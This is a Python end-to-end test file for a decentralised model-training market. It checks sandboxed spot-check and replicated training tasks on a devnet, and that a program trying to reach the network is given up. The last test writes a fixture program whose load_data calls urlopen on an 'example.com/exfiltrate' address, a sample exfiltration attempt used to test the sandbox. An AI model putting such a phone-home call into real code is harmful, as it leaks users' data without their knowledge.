"""A requester's own program end to end on the devnet, the way issue 14 promises it: the program
package, its image folder and pretrained safetensors weights on the local IPFS node (`nnc data
put`'s path: a directory stored as its canonical tar, pinned by its tree digest); trained by a
worker in the sandbox, replayed by a drawn verifier in the sandbox, scored by the oracle in the
sandbox and settled (spot-check mode); trained by two nodes that agree to the digest and settled
(replicate mode); and a program that reaches for the network given up."""

from __future__ import annotations

import hashlib
import shutil
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
import torch
from safetensors.torch import save_file

from nnc.chain.dispute import CheckStatus, SpotCheck
from nnc.chain.market import Market
from nnc.chain.types import ETH, AbandonReason, TaskStatus
from nnc.devnet import REQUESTER, Devnet
from nnc.sandbox import isolation
from nnc.storage import IpfsStore
from nnc.storage.archive import put_directory
from nnc.storage.services import IpfsNode
from nnc.task import parse_spec
from nnc.training.program_package import package_digest
from nnc.verification.scenario import FEE, advance_time
from nnc.worker.daemon import FINAL_PHASES
from nnc.worker.state import Phase
from tests.e2e.harness import Network, make_network
from tests.programs.conftest import RESNET, example_document, write_images

pytestmark = [pytest.mark.e2e, pytest.mark.skipif(isolation() != "bwrap", reason="programs need bubblewrap")]


@pytest.fixture(scope="module")
def image_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_images(tmp_path_factory.mktemp("images") / "shapes", per_class=16)


@pytest.fixture(scope="module")
def ipfs(tmp_path_factory: pytest.TempPathFactory) -> Iterator[IpfsStore]:
    with IpfsNode(tmp_path_factory.mktemp("ipfs")) as node:
        yield IpfsStore(node.url)


@pytest.fixture(scope="module")
def pretrained(image_folder: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Weights of the example network from an earlier training (here: a differently seeded
    initialisation), as a safetensors file: what a spec's `init` starts from."""
    sys.path.insert(0, str(RESNET))
    try:
        from resnet_cnn import ResNet
    finally:
        sys.path.remove(str(RESNET))
    classes = len([p for p in image_folder.iterdir() if p.is_dir()])
    torch.manual_seed(1234)
    path = tmp_path_factory.mktemp("weights") / "base.safetensors"
    save_file({k: v.contiguous() for k, v in ResNet(classes).state_dict().items()}, str(path))
    return path


def publish_program(net: Network, package: Path, images: Path, entry: str = "resnet_cnn:make_program",
                    init: Path | None = None, replication: int = 1) -> int:
    document = example_document()
    document["training"].update(steps=40, checkpoint_interval=10)
    document["acceptance"]["threshold"] = 0.5
    program_uri, _ = put_directory(net.store, package)  # its canonical tar; the package digest is the program's own
    document["program"].update(uri=program_uri, entry=entry, digest=package_digest(package))
    dataset_uri, dataset_digest = put_directory(net.store, images)  # `nnc data put DIR`
    document["dataset"].update(uri=dataset_uri, digest=dataset_digest)
    if init is not None:
        document["init"] = {"uri": net.store.put_file(init), "format": "safetensors",
                            "digest": hashlib.sha256(init.read_bytes()).hexdigest()}
    return net.publish(parse_spec(document), replication=replication)


def test_a_spot_checked_program_task_is_verified_by_replay_and_settled(
        chain: Devnet, tmp_path: Path, image_folder: Path, ipfs: IpfsStore, pretrained: Path) -> None:
    net = make_network(chain, tmp_path, chain.node_indices(), sandbox=True, store=ipfs)
    task_id = publish_program(net, RESNET, image_folder, init=pretrained)
    spot_check = SpotCheck(chain.client(REQUESTER))
    spot_check.enable(task_id, 2, 0.0, FEE)
    net.run_until("spot-check decided", lambda: spot_check.check(task_id).status
                  in (CheckStatus.PASSED, CheckStatus.FAILED), mine=True)
    assert spot_check.check(task_id).status == CheckStatus.PASSED
    market = Market(chain.client(REQUESTER))
    advance_time(chain, market.settlement_params().challenge_window + 1)
    net.run_until("task settled", lambda: net.status(task_id) == TaskStatus.SETTLED)
    assert market.task(task_id).quality_score > 5000  # scored by the program's metric, in the sandbox
    assert market.claimable(market.assignees(task_id)[0], ETH) > 0


def test_a_replicated_program_task_is_settled_with_agreeing_digests(
        chain: Devnet, tmp_path: Path, image_folder: Path, ipfs: IpfsStore, pretrained: Path) -> None:
    net = make_network(chain, tmp_path, chain.node_indices()[:2], sandbox=True, store=ipfs)
    task_id = publish_program(net, RESNET, image_folder, init=pretrained, replication=2)
    market = Market(chain.client(REQUESTER))
    net.run_until("both models revealed", lambda: len(market.assignees(task_id)) == 2 and all(
        market.participation(task_id, node).revealed for node in market.assignees(task_id)))
    advance_time(chain, market.settlement_params().challenge_window + 1)
    net.run_until("task settled", lambda: net.status(task_id) == TaskStatus.SETTLED)
    nodes = market.assignees(task_id)
    digests = {market.result_of(task_id, node) for node in nodes}
    assert len(nodes) == 2 and len(digests) == 1 and digests != {bytes(32)}
    assert all(market.claimable(node, ETH) > 0 for node in nodes)


def test_a_program_that_reaches_for_the_network_is_given_up(chain: Devnet, tmp_path: Path,
                                                            image_folder: Path) -> None:
    package = tmp_path / "package"
    shutil.copytree(RESNET, package, ignore=shutil.ignore_patterns("__pycache__"))
    (package / "phone_home.py").write_text(
        "import urllib.request\nfrom resnet_cnn import ResNetProgram\n"
        "class P(ResNetProgram):\n"
        "    def load_data(self, dataset):\n"
        "        urllib.request.urlopen('http://example.com/exfiltrate', timeout=3)\n"
        "def make_program(spec):\n    return P(spec)\n")
    net = make_network(chain, tmp_path / "net", chain.node_indices()[:1], sandbox=True)
    task_id = publish_program(net, package, image_folder, entry="phone_home:make_program")
    worker = net.workers[0]
    net.run_until("the worker is done with the task", lambda: worker.state.tasks.get(task_id) is not None
                  and worker.state.tasks[task_id].phase in FINAL_PHASES)
    record = worker.state.tasks[task_id]
    assert record.phase == Phase.FAILED
    assert "program phone_home:make_program: load_data raised URLError" in record.reason
    abandoned = [e for e in net.oracle.index.events(task_id) if e["name"] == "TaskAbandoned"]
    assert [e["args"]["reason"] for e in abandoned] == [AbandonReason.INVALID_TASK]
    assert Market(chain.client(REQUESTER)).task(task_id).status == TaskStatus.FAILED
